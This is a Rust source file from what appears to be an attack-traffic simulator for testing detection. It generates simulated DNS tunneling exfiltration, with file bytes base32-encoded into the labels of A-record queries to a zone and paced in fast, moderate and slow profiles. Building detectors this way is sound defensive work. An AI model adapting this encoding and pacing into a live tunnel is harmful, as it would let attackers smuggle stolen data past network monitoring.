//! Bytes leave inside the labels of ordinary address questions (T1071.004).

use std::net::{IpAddr, Ipv4Addr};

use super::alphabet::BASE32;
use super::dns_question::{ask, found, labels, tunnel, zone};
use super::{Attack, Channel, Kind, Mission, Pace, Role};
use crate::simulate::session::Session;
use crate::simulate::wire::dns::{Record, RecordType};

/// What every question is answered with: it says only that it arrived.
const RECEIPT: IpAddr = IpAddr::V4(Ipv4Addr::new(203, 0, 113, 53));

pub(super) static KIND: Kind = Kind {
    name: "dns-tunnel",
    about: "a file in the labels of DNS questions for addresses",
    technique: "T1071.004",
    channel: Channel::Dns,
    found_by: &["dns_tunnel"],
    // Two full labels and a number: 76 bytes a question, one question after the other's answer.
    paces: [
        Pace { contacts: 600..900, bytes: 76..77, apart_ms: 10..12 },
        Pace { contacts: 600..900, bytes: 12..76, apart_ms: 50..2_500 },
        Pace { contacts: 250..350, bytes: 10..36, apart_ms: 30_000..90_000 },
    ],
    roles: &Role::direct(act),
    sessions: 1,
};

pub(super) fn act(session: &mut Session, mission: &Mission) -> Attack {
    let zone = zone(mission);
    let mut attack = tunnel(&zone, session);
    let mut turn = 0;
    mission.each(session, |session, bytes| {
        let name = format!("{turn}.{}.{zone}", labels(BASE32, session, bytes));
        let records = vec![Record::Address(RECEIPT)];
        ask(session, &mut attack, (found(name, RecordType::A, records), bytes));
        turn += 1;
    });
    attack
}
